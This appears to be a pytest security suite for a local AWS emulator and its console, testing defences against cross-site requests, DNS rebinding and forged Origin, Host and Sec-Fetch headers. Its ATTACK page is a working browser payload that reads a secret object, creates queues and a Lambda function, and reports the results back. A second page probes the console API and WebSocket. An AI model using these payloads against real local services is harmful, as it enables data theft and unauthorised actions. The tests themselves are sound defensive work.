"""Programs of this machine are answered. A web page that somebody has open can neither read nor cause anything."""

from __future__ import annotations

import http.client
import json
import os
import re
import stat
import subprocess
import sys
import urllib.request
from collections.abc import Iterator
from pathlib import Path

import pytest

from local import processes
from local.settings import Settings
from tests.embedded import EmbeddedAws, eventually, free_port, running, start
from tests.local import stubs, web
from tests.readers.browser import needs_chromium

pytestmark = [pytest.mark.timeout(180), pytest.mark.enable_socket]

SECRET = "result-of-Juan-Perez"
# As `make up` starts it: nobody is asked who he is.
OPEN_TO_ALL = {"AUTH": ""}
ATTACK = """<!DOCTYPE html><title>evil</title><body><script>
const aws = "%(aws)s", object = aws + "/records/secret.txt";
async function told(asking) {
  try { const answer = await asking(); return answer.status + " " + (await answer.text()); }
  catch (error) { return "refused: " + error; }
}
function post(to, enctype, fields) {
  return new Promise(done => {
    const frame = document.createElement("iframe"), form = document.createElement("form");
    frame.name = form.target = to.name; form.action = to.url; form.method = "POST"; form.enctype = enctype;
    for (const [name, value] of Object.entries(fields)) {
      const input = document.createElement("textarea");
      input.name = name; input.value = value; form.append(input);
    }
    document.body.append(frame, form);
    frame.onload = done; setTimeout(done, 4000); form.submit();
  });
}
function pictured(url) {
  return new Promise(done => { const it = new Image(); it.onload = it.onerror = done; it.src = url; });
}
(async () => {
  const report = {
    get: await told(() => fetch(object)),
    listed: await told(() => fetch(aws + "/records?list-type=2")),
    put: await told(() => fetch(aws + "/records/by-put", {method: "PUT", body: "x"})),
    posted: await told(() => fetch(aws + "/2015-03-31/functions", {method: "POST", mode: "no-cors",
      body: %(function)s})),
  };
  await pictured(aws + "/?Action=CreateQueue&QueueName=by-picture");
  await post({name: "a", url: aws + "/"}, "application/x-www-form-urlencoded",
    {Action: "CreateQueue", QueueName: "by-form"});
  await post({name: "b", url: aws + "/records"}, "multipart/form-data", {key: "by-form", file: "x"});
  await fetch("/report", {method: "POST", body: JSON.stringify(report)});
})();
</script>"""


@pytest.fixture(scope="module")
def guarded(tmp_path_factory: pytest.TempPathFactory) -> Iterator[EmbeddedAws]:
    with running(tmp_path_factory.mktemp("guarded"), **OPEN_TO_ALL) as aws:
        with_a_secret(aws)
        yield aws


@pytest.fixture(scope="module")
def unguarded(tmp_path_factory: pytest.TempPathFactory) -> Iterator[EmbeddedAws]:
    with pytest.MonkeyPatch.context() as patch:
        patch.setitem(processes.MODULES, "aws", "tests.local.unguarded_server")
        with running(tmp_path_factory.mktemp("unguarded"), **OPEN_TO_ALL) as aws:
            patch.undo()
            with_a_secret(aws)
            yield aws


@pytest.fixture(scope="module")
def console(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Settings]:
    settings = Settings(home=tmp_path_factory.mktemp("console"), port=free_port(), console_port=free_port())
    start(settings, **OPEN_TO_ALL)
    try:
        EmbeddedAws(settings).client("s3").create_bucket(Bucket="seen-in-the-console")
        yield settings
    finally:
        processes.stop(settings)


def with_a_secret(aws: EmbeddedAws) -> None:
    s3 = aws.client("s3")
    s3.create_bucket(Bucket="records")
    s3.put_object(Bucket="records", Key="secret.txt", Body=SECRET.encode(), ContentType="text/plain")


def attacked(aws: EmbeddedAws) -> tuple[dict[str, str], set[str]]:
    """What an attacking page could read, and what it caused."""
    function = {
        "FunctionName": "by-fetch",
        "Runtime": "python3.11",
        "Handler": "stub.handler",
        "Role": stubs.ROLE,
        "Code": {},
    }
    page = ATTACK % {"aws": aws.settings.endpoint, "function": json.dumps(json.dumps(function))}
    with web.site(page) as evil:
        report = web.report_of(evil)
    return report, caused(aws)


def caused(aws: EmbeddedAws) -> set[str]:
    queues = aws.client("sqs").list_queues().get("QueueUrls", [])
    objects = aws.client("s3").list_objects_v2(Bucket="records")["Contents"]
    functions = aws.client("lambda").list_functions()["Functions"]
    return {
        *(f"queue {url.rpartition('/')[2]}" for url in queues),
        *(f"object {found['Key']}" for found in objects if found["Key"] != "secret.txt"),
        *(f"function {found['FunctionName']}" for found in functions),
    }


@needs_chromium
def test_a_page_of_another_origin_reads_and_causes_nothing(guarded: EmbeddedAws) -> None:
    report, done = attacked(guarded)
    assert done == set()
    assert {name: said for name, said in report.items() if not said.startswith("refused")} == {
        "posted": "0 ",  # all that a page is shown of such a request, whatever was answered
    }


@needs_chromium
def test_without_the_guard_the_same_page_reads_and_causes_it_all(unguarded: EmbeddedAws) -> None:
    report, done = attacked(unguarded)
    assert SECRET in report["get"]
    assert "secret.txt" in report["listed"]
    assert {"object by-put", "queue by-picture", "queue by-form", "function by-fetch"} <= done


@needs_chromium
@pytest.mark.parametrize("aws", ["guarded", "unguarded"])
def test_a_rebound_name_reads_nothing(aws: str, request: pytest.FixtureRequest) -> None:
    port = request.getfixturevalue(aws).settings.port
    shown = web.browsed(f"http://rebound.test:{port}/records/secret.txt")
    assert (SECRET in shown) is (aws == "unguarded")


@needs_chromium
@pytest.mark.parametrize("aws", ["guarded", "unguarded"])
def test_a_page_that_lies_in_a_bucket_reads_nothing_of_its_own_origin(
    aws: str, request: pytest.FixtureRequest
) -> None:
    embedded = request.getfixturevalue(aws)
    page = """<body><script>fetch("/records/secret.txt").then(a => a.text())
        .then(text => { document.body.dataset.read = text })</script>"""
    embedded.client("s3").put_object(
        Bucket="records", Key="page.html", Body=page.encode(), ContentType="text/html"
    )
    try:
        shown = web.browsed(f"{embedded.settings.endpoint}/records/page.html")
    finally:
        embedded.client("s3").delete_object(Bucket="records", Key="page.html")
    assert (f'data-read="{SECRET}"' in shown) is (aws == "unguarded")
    assert "data-read" in shown


@pytest.mark.parametrize(
    ("headers", "status"),
    [
        ({}, 200),
        ({"Host": "localhost:{port}"}, 200),
        ({"Host": "evil.test:{port}"}, 403),
        ({"Host": "127.0.0.1.evil.test:{port}"}, 403),
        ({"Host": "localhost.evil.test"}, 403),
        ({"Host": ""}, 403),
        ({"Origin": "http://evil.test"}, 403),
        ({"Origin": "null"}, 403),
        ({"Origin": "http://127.0.0.1:{port}"}, 403),
        ({"Sec-Fetch-Site": "cross-site"}, 403),
        ({"Sec-Fetch-Site": "same-site"}, 403),
        ({"Sec-Fetch-Site": "same-origin"}, 403),
        ({"Sec-Fetch-Site": "cross-site", "Sec-Fetch-Mode": "navigate", "Sec-Fetch-Dest": "document"}, 403),
        ({"Sec-Fetch-Site": "none", "Sec-Fetch-Mode": "navigate", "Sec-Fetch-Dest": "document"}, 200),
    ],
    ids=str,
)
def test_the_embedded_aws_answers_programs_and_whoever_types_an_address(
    guarded: EmbeddedAws, headers: dict[str, str], status: int
) -> None:
    answer = asked(guarded.settings.port, "/records/secret.txt", headers)
    assert answer.status == status
    assert not [name for name, _ in answer.getheaders() if name.lower().startswith("access-control")]


def asked(port: int, path: str, headers: dict[str, str], method: str = "GET") -> http.client.HTTPResponse:
    connection = http.client.HTTPConnection("127.0.0.1", port, timeout=20)
    said = {name: value.format(port=port) for name, value in headers.items()}
    connection.putrequest(method, path, skip_host="Host" in said)
    for name, value in said.items():
        connection.putheader(name, value)
    connection.endheaders()
    return connection.getresponse()


def test_a_preflight_permits_nothing(guarded: EmbeddedAws) -> None:
    headers = {"Origin": "http://evil.test", "Access-Control-Request-Method": "PUT"}
    answer = asked(guarded.settings.port, "/records/by-put", headers, "OPTIONS")
    assert answer.status == 403
    assert not [name for name, _ in answer.getheaders() if name.lower().startswith("access-control")]


def test_a_function_still_reaches_the_aws_that_runs_it(guarded: EmbeddedAws) -> None:
    source = """
import boto3
def handler(event, context):
    return boto3.client("s3").get_object(Bucket="records", Key="secret.txt")["Body"].read().decode()
"""
    machine = stubs.machine(guarded, {"Ask": stubs.invoke_state(stubs.function(guarded, source), End=True)})
    started = guarded.client("stepfunctions").start_execution(stateMachineArn=machine, input="{}")
    assert json.loads(guarded.finished(started["executionArn"])["output"]) == SECRET


def test_the_command_line_works_as_before(guarded: EmbeddedAws) -> None:
    cli = Path(sys.executable).with_name("aws")
    if not cli.exists():
        pytest.skip("no AWS command line in this environment")
    done = subprocess.run(
        [cli, "s3", "cp", "s3://records/secret.txt", "-"],
        env={"PATH": os.environ["PATH"], **guarded.settings.credentials},
        capture_output=True,
        text=True,
        check=True,
        timeout=60,
    )
    assert done.stdout == SECRET


class TestConsole:
    @needs_chromium
    def test_its_own_page_shows_what_is_there(self, console: Settings) -> None:
        shown = eventually(
            lambda: re.search("seen-in-the-console", web.browsed(f"{console.console_url}/resources/s3"))
        )
        assert shown

    @needs_chromium
    def test_a_link_leads_to_it_and_nothing_else_does(self, console: Settings) -> None:
        page = """<body><iframe src="%(console)s/"></iframe><script>
          const told = ask => ask().then(a => a.text()).catch(e => "refused: " + e);
          const socket = new Promise(done => {
            const it = new WebSocket("%(socket)s/ws");
            it.onopen = () => done("open"); it.onerror = () => done("refused"); });
          (async () => fetch("/report", {method: "POST", body: JSON.stringify({
            api: await told(() => fetch("%(console)s/api/stats")),
            written: await told(() => fetch("%(console)s/api/endpoints", {method: "POST", body: "{}"})),
            socket: await socket,
          })}).then(() => { location.href = "%(console)s/" }))();</script>"""
        url = console.console_url
        with web.site(page % {"console": url, "socket": url.replace("http", "ws")}) as evil:
            followed = web.browsed(evil.url)
            report = evil.reports[0]
        assert all(said.startswith("refused") for said in report.values()), report
        assert "<title>evil" not in followed
        assert 'id="root"' in followed

    @pytest.mark.parametrize(
        ("headers", "status"),
        [
            ({}, 200),
            ({"Origin": "http://127.0.0.1:{port}", "Sec-Fetch-Site": "same-origin"}, 200),
            ({"Origin": "http://localhost:{port}"}, 403),
            ({"Origin": "http://127.0.0.1:1"}, 403),
            ({"Host": "rebound.test:{port}"}, 403),
            ({"Host": "rebound.test:{port}", "Origin": "http://rebound.test:{port}"}, 403),
            ({"Sec-Fetch-Site": "same-site", "Sec-Fetch-Mode": "cors", "Sec-Fetch-Dest": "empty"}, 403),
            ({"Sec-Fetch-Site": "cross-site", "Sec-Fetch-Mode": "navigate", "Sec-Fetch-Dest": "iframe"}, 403),
            (
                {"Sec-Fetch-Site": "cross-site", "Sec-Fetch-Mode": "navigate", "Sec-Fetch-Dest": "document"},
                200,
            ),
        ],
        ids=str,
    )
    def test_it_answers_its_own_pages_and_whoever_comes_by_a_link(
        self, console: Settings, headers: dict[str, str], status: int
    ) -> None:
        answer = asked(console.console_port, "/", headers)
        assert answer.status == status
        assert not [name for name, _ in answer.getheaders() if name.lower().startswith("access-control")]

    def test_what_it_holds_is_its_owner_s_alone(self, console: Settings) -> None:
        with urllib.request.urlopen(console.console_url, timeout=20) as answer:
            assert answer.status == 200
        assert {
            folder.name: stat.filemode(folder.stat().st_mode)
            for folder in console.home.iterdir()
            if folder.is_dir()
        } == dict.fromkeys(("console", "logs", "state", "tmp"), "drwx------")


def test_folders_of_an_earlier_release_are_closed_too(tmp_path: Path) -> None:
    settings = Settings(home=tmp_path / "home", port=free_port(), console_port=0)
    settings.state.mkdir(parents=True, mode=0o755)
    settings.state.chmod(0o755)
    start(settings)
    try:
        assert stat.S_IMODE(settings.state.stat().st_mode) == 0o700
        assert stat.S_IMODE(settings.home.stat().st_mode) & 0o022 == 0
    finally:
        processes.stop(settings)
